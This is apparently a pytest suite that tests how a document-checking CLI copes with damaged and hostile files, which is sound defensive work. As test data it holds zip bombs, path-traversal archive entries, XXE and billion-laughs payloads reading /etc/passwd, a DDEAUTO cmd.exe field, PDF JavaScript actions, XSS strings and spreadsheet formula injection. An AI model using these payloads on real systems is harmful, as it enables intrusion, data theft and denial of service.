"""`drafter check` on hostile and damaged files of every format: exit code 0, 1 or 2, soon, without a traceback.

On exit code 2 of a single document nothing is written; nothing is ever fetched; what a document says stays text in every report.
"""

from __future__ import annotations

import io
import json
import random
import re
import shutil
import socket
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from click.testing import CliRunner, Result
from documents.make import W, docx, docx_parts, odt, p, page, pdf, r, table, zipped
from openpyxl import load_workbook

from drafter.cli import main
from drafter.report.data import schema

STYLES = ("text", "json", "html", "xlsx")
SECONDS = 10.0
NEVER = ("Traceback", "please report this", "too deeply nested to be checked")
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
EN = ("MEMORANDUM OF UNDERSTANDING\nbetween the Police Service (“the Police”) and Orrin Mining Ltd (“the Company”)\n\nArticle 1 Human rights\n"
      "The Police shall respect human rights and the Voluntary Principles.\n\nArticle 2 Use of force\n(a) The Police shall use force only when "
      "strictly necessary and in proportion.\n(b) The Company shall not provide weapons.\n")
ZH = "谅解备忘录\n甲方：云府市公安局\n乙方：安北矿业有限公司（以下简称“公司”）\n第一条 人权\n警方应当尊重人权，遵守《自愿原则》。\n第二条 使用武力\n警方仅在绝对必要时使用武力。\n"
ES = "CONVENIO\nentre la Policía Nacional («la Policía») y Minera Xola S.A. («la Empresa»)\n\nPrimera.- La Policía respetará los derechos humanos.\n"
FR = "PROTOCOLE D'ACCORD\nentre la Police nationale (« la Police ») et Mines SA (« la Société »)\n\nArticle 1er\nLa Police respecte les droits de l'homme.\n"
BODY = "".join(p(line) for line in EN.split("\n") if line) + table([p("a"), p("b")], [p(r("deleted", "<w:b/>")), p("第一条 人权")])
HTML = "<html><body>" + "".join(f"<p>{line}</p>" for line in EN.split("\n") if line) + "</body></html>"


@pytest.fixture(autouse=True)
def _offline(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever opens a connection fails the test."""
    def refuse(*_: object, **__: object) -> None:
        pytest.fail("something reached for the network")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setenv("LC_ALL", "C.UTF-8")


class Strict(HTMLParser):
    """What elements, scripts and addresses a page holds."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: dict[str, int] = {}
        self.loads: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] = self.tags.get(tag, 0) + 1
        for name, value in attrs:
            if name.startswith("on") or (name in ("src", "href", "action", "data") and not str(value).startswith("#")):
                self.loads.append(f"{name}={value}")


def judge_html(page_: str) -> None:
    parser = Strict()
    parser.feed(page_)
    assert parser.loads == [], parser.loads
    assert parser.tags.get("script", 0) == 2 and parser.tags.get("style", 0) == 1, parser.tags
    assert not set(parser.tags) & {"img", "iframe", "object", "embed", "link", "base", "form", "svg", "input"}, parser.tags


def judge_output(style: str, blob: bytes) -> None:
    """Every report is sound, whatever the document says."""
    if style == "json":
        jsonschema.validate(json.loads(blob), schema())
    elif style == "html":
        judge_html(blob.decode())
    elif style == "xlsx":
        for sheet in load_workbook(io.BytesIO(blob)):
            assert {type(cell.value) for row in sheet for cell in row} <= {str, type(None)}
            assert not any(cell.data_type == "f" for row in sheet for cell in row)
    else:
        text = blob.decode()
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)


def check(folder: Path, name: str, blob: bytes, style: str = "json", *, seconds: float = SECONDS) -> Result:
    """Check one file, its report written beside it. Returns what the command said."""
    source, target = folder / name, folder / f"report.{style}"
    source.write_bytes(blob)
    target.unlink(missing_ok=True)
    before = sorted(x.name for x in folder.iterdir())
    began = time.process_time()
    result = CliRunner().invoke(main, ["check", str(source), "--format", style, "-o", str(target)])
    took = time.process_time() - began
    told = f"{name}: {result.exit_code}\n{result.output[-600:]}"
    assert result.exception is None or isinstance(result.exception, SystemExit), (told, result.exc_info)
    assert result.exit_code in (0, 1, 2), told
    assert not any(sign in result.output for sign in NEVER), told
    assert took < seconds, f"{name}: {took:.1f} s"
    if result.exit_code == 2:
        assert result.stderr.strip() and not result.stdout, told
        assert sorted(x.name for x in folder.iterdir()) == before, told
    else:
        judge_output(style, target.read_bytes())
    target.unlink(missing_ok=True)
    source.unlink()
    return result


# --- fuzzed: 144 files


SEEDS: dict[str, bytes] = {
    "txt": EN.encode(), "utf8.txt": (ZH + ES + FR).encode(), "gb.txt": ZH.encode("gb18030"), "wide.txt": ZH.encode("utf-16"),
    "latin.txt": (ES + FR.replace("’", "'")).encode("cp1252"),
    "md": f"# MOU\n\n{EN}\n| a | b |\n|---|---|\n| [x](http://y.invalid) | **z** |\n".encode(), "html": HTML.encode(),
    "docx": docx(BODY, comments='<w:comment w:id="1"><w:p><w:r><w:t>c</w:t></w:r></w:p></w:comment>',
                 numbering='<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'),
    "pdf": pdf(page(*EN.replace("“", '"').replace("”", '"').split("\n")), page("Second page.")),
    "odt": odt(f"<text:p>{EN}</text:p>"), "rtf": b"{\\rtf1\\ansi " + EN.encode("cp1252").replace(b"\n", b"\\par ") + b"}",
}


def mutated(blob: bytes, chance: random.Random) -> bytes:
    data = bytearray(blob)
    for _ in range(chance.choice((1, 2, 8, 40))):
        at = chance.randrange(len(data))
        action = chance.randrange(6)
        if action == 0:
            data[at] ^= 1 << chance.randrange(8)
        elif action == 1:
            del data[at:at + chance.randrange(1, 60)]
        elif action == 2:
            data[at:at] = bytes(chance.randrange(256) for _ in range(chance.randrange(1, 40)))
        elif action == 3:
            data[at:at] = data[at:at + 400]
        elif action == 4:
            data[at:at] = chance.choice((b"\0", b"\xff\xfe", b"<script>", b"]]>", b"\x1b[31m", "\u202e".encode(), b"%s%n", b"\r", b"\x0c"))
        else:
            data = data[:max(1, at)]
        data = data or bytearray(b"x")
    return bytes(data)


def without_office(name: str) -> None:
    if name.endswith("pdf"):
        pytest.importorskip("pypdfium2")


@pytest.mark.parametrize("name", [n for n in SEEDS if n not in ("odt", "rtf")])
def test_fuzzed(name: str, tmp_path: Path) -> None:
    without_office(name)
    chance = random.Random(f"check {name}")
    for n in range(16):
        check(tmp_path, f"x.{name}", mutated(SEEDS[name], chance), STYLES[n % 4])


@pytest.mark.parametrize("name", ["odt", "rtf"])
def test_fuzzed_for_the_office_program(name: str, tmp_path: Path) -> None:
    if not shutil.which("soffice"):
        pytest.skip("soffice is not on this machine")
    check(tmp_path, f"x.{name}", mutated(SEEDS[name], random.Random(3)), seconds=100)


def test_fuzzed_parts_inside_a_sound_package(tmp_path: Path) -> None:
    chance = random.Random("parts")
    parts = docx_parts(BODY, styles='<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="a"/></w:style>', footnotes="", header1=p("Draft"))
    for n in range(30):
        name = chance.choice([x for x in parts if x.endswith((".xml", ".rels"))])
        content = parts[name]
        check(tmp_path, "x.docx", zipped({**parts, name: mutated(content.encode() if isinstance(content, str) else content, chance)}), STYLES[n % 4])


# --- made on purpose


def changed(part: str, content: bytes | str, **more: bytes | str) -> bytes:
    return zipped({**docx_parts(BODY), part: content, **{k.replace("__", "/"): v for k, v in more.items()}})


def document(inner: str, head: str = "") -> bytes:
    return changed("word/document.xml", f"{head}<w:document {W}><w:body>{inner}</w:body></w:document>")


def relations(*rows: str) -> str:
    return f'<Relationships xmlns="{RELS}">{"".join(rows)}</Relationships>'


def external(kind: str, target: str) -> str:
    return f'<Relationship Id="x1" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'


def bomb(levels: int = 1) -> bytes:
    blob = bytes(30 << 20)
    for _ in range(levels):
        blob = zipped({"word/document.xml": blob, "[Content_Types].xml": ""})
    return blob


def lying() -> bytes:
    """The directory says 100 bytes; the part is 40 MB."""
    blob = bytearray(zipped({**docx_parts(BODY), "word/document.xml": b" " * (40 << 20)}))
    at = blob.rindex(b"word/document.xml") - 46 + 24
    blob[at:at + 4] = struct.pack("<I", 100)
    return bytes(blob)


def overlapping() -> bytes:
    """Two entries of the directory that point at the same bytes."""
    blob = bytearray(SEEDS["docx"])
    first = blob.index(b"PK\x01\x02")
    second = blob.index(b"PK\x01\x02", first + 4)
    blob[second + 42:second + 46] = blob[first + 42:first + 46]
    return bytes(blob)


def flagged(bit: int) -> bytes:
    blob = bytearray(SEEDS["docx"])
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = blob.find(mark)
        while place >= 0:
            blob[place + at] |= bit
            place = blob.find(mark, place + 4)
    return bytes(blob)


def method(number: int) -> bytes:
    blob = bytearray(SEEDS["docx"])
    place = blob.find(b"PK\x01\x02")
    while place >= 0:
        blob[place + 10:place + 12] = struct.pack("<H", number)
        place = blob.find(b"PK\x01\x02", place + 4)
    return bytes(blob)


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package, pytest.warns(UserWarning, match="Duplicate"):
        for _ in range(2):
            for name, content in docx_parts(BODY).items():
                package.writestr(name, content)
    return out.getvalue()


XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE w [<!ENTITY a "lol">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
REFUSED: dict[str, Callable[[], tuple[str, bytes]]] = {
    "empty": lambda: ("x.txt", b""), "only spaces": lambda: ("x.txt", b" \r\n\t" * 400), "only NUL": lambda: ("x.docx", bytes(5000)),
    "empty docx": lambda: ("x.docx", b""), "empty zip": lambda: ("x.docx", b"PK\x05\x06" + bytes(18)), "head of a zip": lambda: ("x.docx", b"PK\x03\x04"),
    "zip bomb": lambda: ("x.docx", bomb()), "nested bomb": lambda: ("x.docx", bomb(2)), "many parts": lambda: (
        "x.docx", zipped({**docx_parts(BODY), **{f"word/p{n}.xml": "" for n in range(10_001)}})),
    "lying size": lambda: ("x.docx", lying()),
    "path up": lambda: ("x.docx", changed("../../evil.xml", "x")), "absolute path": lambda: ("x.docx", changed("/etc/evil", "x")),
    "backslashes": lambda: ("x.docx", changed("..\\..\\evil.xml", "x")), "same name twice": lambda: ("x.docx", twice()),
    "encrypted flag": lambda: ("x.docx", flagged(1)), "unknown packing": lambda: ("x.docx", method(99)),
    "xxe": lambda: ("x.docx", document(p("&x;"), XXE)), "billion laughs": lambda: ("x.docx", document(p("&i;"), LAUGHS)),
    "external DTD": lambda: ("x.docx", document(p("a"), '<!DOCTYPE w SYSTEM "http://192.0.2.1/x.dtd">')),
    "plain DOCTYPE": lambda: ("x.docx", document(p("a"), "<!DOCTYPE w>")),
    "xxe in utf-16": lambda: ("x.docx", changed("word/document.xml", (XXE + f"<w:document {W}><w:body>{p('&x;')}</w:body></w:document>").encode("utf-16"))),
    "xxe in relations": lambda: ("x.docx", changed("_rels/.rels", XXE + relations())), "deep XML": lambda: ("x.docx", document("<w:sdt>" * 60_000 + "</w:sdt>" * 60_000)),
    "no body": lambda: ("x.docx", changed("word/document.xml", f"<w:document {W}/>")), "empty body": lambda: ("x.docx", document("")),
    "other root": lambda: ("x.docx", changed("word/document.xml", "<a/>")), "no XML": lambda: ("x.docx", changed("word/document.xml", b"\xff\xd8\xff\0" * 50)),
    "no content types": lambda: ("x.docx", zipped({"word/document.xml": "<a/>"})), "archive": lambda: ("x.docx", zipped({"a.txt": "x", "b/c.docx": SEEDS["docx"]})),
    "archive as txt": lambda: ("x.txt", zipped({"a.txt": EN})), "spreadsheet": lambda: ("x.docx", zipped({"xl/workbook.xml": "x", "[Content_Types].xml": ""})),
    "encrypted OLE": lambda: ("x.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le")),
    "old spreadsheet": lambda: ("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") * 40), "picture": lambda: ("x.txt", b"\x89PNG\r\n\x1a\n" + bytes(900)),
    "photo as pdf": lambda: ("x.pdf", b"\xff\xd8\xff\xe0" + bytes(900)), "program": lambda: ("x.txt", b"\x7fELF\2\1\1" + bytes(range(32)) * 90),
    "noise": lambda: ("x.txt", random.Random(1).randbytes(20_000)), "noise as docx": lambda: ("x.docx", random.Random(2).randbytes(20_000)),
    "pdf head alone": lambda: ("x.pdf", b"%PDF-1.7\n"), "pdf cut off": lambda: ("x.pdf", SEEDS["pdf"][:300]),
    "odt bomb": lambda: ("x.odt", odt("x", **{"Pictures/a": bytes(30 << 20)})), "odt xxe": lambda: ("x.odt", odt("x", **{"content.xml": XXE.encode() + b"<a>&x;</a>"})),
    "odt path up": lambda: ("x.odt", odt("x", **{"../../a": b"x"})), "odt encrypted": lambda: ("x.odt", odt("x", **{"META-INF/manifest.xml": b"<m><encryption-data/></m>"})),
    "html without words": lambda: ("x.html", b"<html><body><script>alert(1)</script></body></html>"),
    "markup only": lambda: ("x.html", b"<html>" + b"<div>" * 5000 + b"</div>" * 5000),
}


@pytest.mark.parametrize("case", REFUSED)
def test_refused(case: str, tmp_path: Path) -> None:
    name, blob = REFUSED[case]()
    without_office(name)
    result = check(tmp_path, name, blob, random.Random(case).choice(STYLES))
    assert result.exit_code == 2, result.output


BIDI = "The Police \u202eton llahs\u202c use force. \u2066\u2067x\u2069 \u200b\u200f\u00ad\ufeff"
READ: dict[str, Callable[[], tuple[str, bytes]]] = {
    "NUL bytes": lambda: ("x.txt", EN.replace("shall", "sh\0all", 3).encode()), "invalid UTF-8": lambda: ("x.txt", EN.encode() + b"\xc3\x28 \xff \xed\xa0\x80 \xf4\x90\x80\x80"),
    "half of a GB18030 pair": lambda: ("x.txt", ZH.encode("gb18030") + b"\x81"), "bad GB18030": lambda: ("x.txt", ZH.encode("gb18030").replace(b"\xa1\xa3", b"\xa1\x20", 1)),
    "half of a UTF-16 pair": lambda: ("x.txt", ZH.encode("utf-16") + b"\x00\xd8\x41"), "lone surrogates": lambda: ("x.txt", b"\xff\xfe" + b"\x00\xdc\x41\x00" * 50 + EN.encode("utf-16-le")),
    "UTF-32": lambda: ("x.txt", EN.encode("utf-32")), "bidi": lambda: ("x.txt", (EN + BIDI).encode()), "terminal codes": lambda: (
        "x.txt", (EN + "\x1b[2J\x1b]0;owned\x07 The Police shall\x1b[31m respect human rights.\x9b31m").encode()),
    "combining": lambda: ("x.txt", (EN + "e" + "\u0301" * 20_000).encode()), "unassigned": lambda: ("x.txt", (EN + "\U000e0001\U0010ffff\ufdd0" * 90).encode()),
    "one word of 10 MB": lambda: ("x.txt", b"a" * (10 << 20)), "huge line": lambda: ("x.txt", b"rights and wrongs " * 15_000),
    "a line of signs": lambda: ("x.txt", (EN + "(" * 100_000 + "\"" * 100_000).encode()), "numbers": lambda: ("x.txt", (EN + "9" * 50_000 + " days\n" + "1." * 20_000).encode()),
    "quotes unclosed": lambda: ("x.txt", (EN + "(“" * 20_000 + "hereinafter " * 5000).encode()), "party names": lambda: (
        "x.txt", (EN + "".join(f"Firm {n} Ltd (“the Name{n}”) " for n in range(2500))).encode()),
    "references": lambda: ("x.txt", (EN + "see Article 1.1.1.1.1 and Annex A, " * 3000).encode()), "modals": lambda: ("x.txt", b"shall not " * 8000),
    "empty lines": lambda: ("x.txt", b"\n" * 400_000 + EN.encode()), "carriage returns": lambda: ("x.txt", EN.replace("\n", "\r").encode()),
    "form feeds": lambda: ("x.txt", EN.replace("\n", "\x0c").encode()), "no language": lambda: ("x.txt", "Договор об охране объекта. ".encode() * 90),
    "html as docx": lambda: ("x.docx", HTML.encode()), "text as docx": lambda: ("x.docx", EN.encode()), "docx as pdf": lambda: ("x.pdf", SEEDS["docx"]),
    "docx as txt": lambda: ("x.txt", SEEDS["docx"]), "docx without suffix": lambda: ("x", SEEDS["docx"]), "pdf as html": lambda: ("x.html", SEEDS["pdf"]),
    "strange suffix": lambda: ("x.exe", EN.encode()), "deep html": lambda: ("x.html", f"<html><body>{'<div><ul><li>' * 20_000}{EN}".encode()),
    "deep tables": lambda: ("x.html", f"<html><body>{'<table><tr><td>' * 3000}{EN}{'</table>' * 3000}".encode()),
    "tags cut off": lambda: ("x.html", ("<html><body>" + HTML + "<p " * 40_000 + "<!--" * 5000).encode()),
    "attributes": lambda: ("x.html", f"<html><body><p {'a=b ' * 30_000}>{EN}</p><p a='{'x' * 50_000}>y".encode()),
    "entities": lambda: ("x.html", f"<html><body><p>{EN}{'&amp;' * 30_000}&#0;&#1114112;&#xd800;&nosuch;</p>".encode()),
    "html xxe": lambda: ("x.html", f"{XXE}<html><body><p>{EN} &x;</p></body></html>".encode()), "html that fetches": lambda: (
        "x.html", HTML.replace("</body>", '<img src="http://192.0.2.1/a"><link rel="stylesheet" href="//192.0.2.1/b"><iframe src="file:///etc/passwd"></iframe>').encode()),
    "md that fetches": lambda: ("x.md", f"# MOU\n\n{EN}\n![x](http://192.0.2.1/a.png) <http://192.0.2.1> [a]: file:///etc/passwd\n".encode()),
    "md tables": lambda: ("x.md", ("# A\n\n" + "|" * 20_000 + "\n|---|---|\n" + "|a" * 20_000 + "|\n" + EN).encode()),
    "50,000 runs": lambda: ("x.docx", docx("<w:p>" + "".join(r(f"right{n} ") for n in range(50_000)) + "</w:p>" + BODY)),
    "20,000 paragraphs": lambda: ("x.docx", docx(BODY + p("") * 20_000 + p("x") * 2000)), "nested tables": lambda: ("x.docx", docx(nested(60) + BODY)),
    "macros": lambda: ("x.docm", changed("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(600))), "embedded": lambda: ("x.docx", changed("word/embeddings/o.bin", b"MZ" + bytes(90))),
    "external template": lambda: ("x.docx", changed("word/_rels/settings.xml.rels", relations(external("attachedTemplate", "http://192.0.2.1/evil.dotm")))),
    "external picture": lambda: ("x.docx", changed("word/_rels/document.xml.rels", relations(external("image", "file://///192.0.2.1/share/a.png")))),
    "field that fetches": lambda: ("x.docx", docx(BODY + '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')),
    "chunk": lambda: ("x.docx", changed("word/_rels/document.xml.rels", relations(f'<Relationship Id="c" Type="{REL}/aFChunk" Target="c.html"/>'), word__c_html="<script>")),
    "relation up": lambda: ("x.docx", changed("word/_rels/document.xml.rels", relations(f'<Relationship Id="c" Type="{REL}/styles" Target="../../../../etc/passwd"/>'))),
    "relation to itself": lambda: ("x.docx", changed("word/_rels/document.xml.rels", relations(f'<Relationship Id="c" Type="{REL}/footnotes" Target="document.xml"/>'))),
    "overlapping parts": lambda: ("x.docx", overlapping()), "styles in a ring": lambda: ("x.docx", docx(p("Article 1", properties='<w:pStyle w:val="a"/>') + BODY, styles=(
        '<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style>'))),
    "numbers without end": lambda: ("x.docx", docx(p("x", properties='<w:numPr><w:ilvl w:val="99"/><w:numId w:val="-1"/></w:numPr>') + BODY)),
    "field never closed": lambda: ("x.docx", docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 3000 + BODY)), "zip in front": lambda: (
        "x.docx", SEEDS["docx"] + b"trailing" * 100), "pdf with rubbish in front": lambda: ("x.pdf", b"\n" * 500 + SEEDS["pdf"]),
    "pdf with script": lambda: ("x.pdf", SEEDS["pdf"].replace(b"<< /Type /Catalog", b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Type /Catalog")),
    "pdf that calls home": lambda: ("x.pdf", SEEDS["pdf"].replace(b"<< /Type /Catalog", b"<< /OpenAction << /S /URI /URI (http://192.0.2.1/) >> /Type /Catalog")),
    "pdf stream bomb": lambda: ("x.pdf", pdf_stream(zlib.compress(b"0 0 m " * 2_000_000))), "pdf without xref": lambda: ("x.pdf", SEEDS["pdf"].split(b"xref")[0]),
    "pdf loop of pages": lambda: ("x.pdf", SEEDS["pdf"].replace(b"/Type /Page /Parent 2 0 R", b"/Type /Pages /Kids [2 0 R]")),
    "pdf of 300 pages": lambda: ("x.pdf", pdf(*[page("The Police shall respect human rights and the law of the State", f"on page {n} of this paper.") for n in range(300)])),
}


def nested(depth: int) -> str:
    body = p("The Police shall respect human rights.")
    for _ in range(depth):
        body = f"<w:tbl><w:tr><w:tc>{body}</w:tc></w:tr></w:tbl>"
    return body


def pdf_stream(packed: bytes) -> bytes:
    """A page whose packed content is far larger unpacked."""
    blob = SEEDS["pdf"]
    start = blob.index(b"<< /Length")
    end = blob.index(b"endstream", start)
    return blob[:start] + b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\n" % (len(packed), packed) + blob[end:]


@pytest.mark.parametrize("case", READ)
def test_read_or_refused(case: str, tmp_path: Path) -> None:
    name, blob = READ[case]()
    without_office(name)
    chance = random.Random(case)
    check(tmp_path, name, blob, chance.choice(STYLES))


@pytest.mark.parametrize("case", ["macros", "external template", "external picture", "field that fetches", "chunk", "html that fetches", "embedded"])
def test_what_reaches_outside_is_said(case: str, tmp_path: Path) -> None:
    name, blob = READ[case]()
    (tmp_path / name).write_bytes(blob)
    result = CliRunner().invoke(main, ["check", str(tmp_path / name), "--format", "json"])
    assert result.exit_code in (0, 1), result.output
    assert json.loads(result.stdout)["documents"][0]["flags"]


# --- what a document says stays text

EVIL = ('<script>alert(1)</script>', '</style><style>*{display:none}</style>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "{{ 7*7 }}{% raw %}",
        "</script><script>alert(2)</script>", "<!--", "]]>", "javascript:alert(1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+1", "-2+3", "\t=1+1", "%s%n{0}", "&lt;b&gt;", "\\u003cscript\\u003e")


@pytest.mark.parametrize("evil", EVIL)
def test_injection(evil: str, tmp_path: Path) -> None:
    words = EN.replace("the Company", evil).replace("Orrin Mining", f"Orrin {evil} Mining").replace("weapons", f"weapons {evil}")
    words += f"\n{evil} shall ensure that the Police respect human rights and the Voluntary Principles.\n{evil}\n"
    for style in STYLES:
        assert check(tmp_path, "x.txt", words.encode(), style).exit_code == 1


NAMES = ("=1+1.txt", "@SUM(A1).txt", "+x.txt", "-x.txt", "<script>alert(1)<!--.txt", "'\" onload=alert(1).txt", "a\nb.txt", "a\x1b[31m.txt", "名字.txt", "\u202etxt.exe.txt", "{{7*7}}.txt", "%s.txt",
         "a b  c.txt", ".txt", "x" * 200 + ".txt", "C:\\x.txt", "--format.txt", "\udcff\udcfe.txt")


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_file_names(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "f"
    folder.mkdir()
    for style in STYLES:
        assert check(folder, name, EN.encode(), style).exit_code == 1
    assert check(folder, name, b"", "json").exit_code == 2


def test_names_in_a_folder_of_reports(tmp_path: Path) -> None:
    source, target = tmp_path / "in", tmp_path / "out"
    source.mkdir()
    for name in NAMES:
        (source / name).write_bytes(EN.encode())
    (source / "bad.docx").write_bytes(b"PK\x03\x04")
    result = CliRunner().invoke(main, ["check", str(source), "-o", f"{target}/"])
    assert result.exit_code == 2 and "Traceback" not in result.output and "bad.docx" in result.stderr
    made = [x for x in target.rglob("*") if x.is_file()]
    assert all(x.resolve().is_relative_to(target) for x in made)
    assert sorted(x.name for x in tmp_path.iterdir()) == ["in", "out"]
    for path in made:
        if path.name == "index.html" or path.name.endswith(".report.html"):
            found = Strict()
            found.feed(path.read_text("utf-8"))
            assert not [x for x in found.loads if not re.match(r"href=[\w%.-]+\.html$", x)], found.loads
            assert not set(found.tags) & {"img", "iframe", "object"}
    judge_output("xlsx", (target / "matrix.xlsx").read_bytes())


# --- paths


@pytest.mark.parametrize("name", ["nosuch.txt", "x" * 5000, "a\0b", "/dev/null", "/dev/zero", "", "..", "/", "nosuch/../../etc/passwd"])
def test_paths(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "empty").mkdir()
    monkeypatch.chdir(tmp_path / "empty")
    if name in ("..", "/"):
        name = "."
    began = time.process_time()
    result = CliRunner().invoke(main, ["check", name])
    assert result.exit_code == 2 and (result.exception is None or isinstance(result.exception, SystemExit)), (result.output, result.exc_info)
    assert "Traceback" not in result.output and time.process_time() - began < SECONDS


@pytest.mark.parametrize("made", [lambda d: d / "file" / "out.json", lambda d: d / "nosuch" / "out.json", lambda d: d / ("x" * 300), lambda d: f"{d / 'file'}/",
                                  lambda d: "/proc/out.json", lambda d: "/proc/out/"])
def test_reports_that_cannot_be_written(made: Callable[[Path], Any], tmp_path: Path) -> None:
    (tmp_path / "file").write_text("mine")
    source = tmp_path / "x.txt"
    source.write_text(EN, "utf-8")
    result = CliRunner().invoke(main, ["check", str(source), "--format", "json", "-o", str(made(tmp_path))])
    assert result.exit_code == 2 and (result.exception is None or isinstance(result.exception, SystemExit)), (result.output, result.exc_info)
    assert sorted(x.name for x in tmp_path.iterdir()) == ["file", "x.txt"] and (tmp_path / "file").read_text() == "mine"


def test_a_loop_of_links_and_a_pipe(tmp_path: Path) -> None:
    import os

    (tmp_path / "a.txt").write_text(EN, "utf-8")
    (tmp_path / "loop").symlink_to(tmp_path)
    (tmp_path / "self.txt").symlink_to(tmp_path / "self.txt")
    os.mkfifo(tmp_path / "pipe.txt")
    assert CliRunner().invoke(main, ["check", str(tmp_path), "--format", "json"]).exit_code == 1
    for name in ("self.txt", "pipe.txt"):
        result = CliRunner().invoke(main, ["check", str(tmp_path / name)])
        assert result.exit_code == 2 and isinstance(result.exception, SystemExit), result.output


def test_standard_input(tmp_path: Path) -> None:
    for blob, code in ((SEEDS["docx"], 1), (EN.encode(), 1), (b"", 2), (b"PK\x03\x04", 2)):
        result = CliRunner().invoke(main, ["check", "-", "--format", "json"], input=blob)
        assert result.exit_code == code and "Traceback" not in result.output, result.output
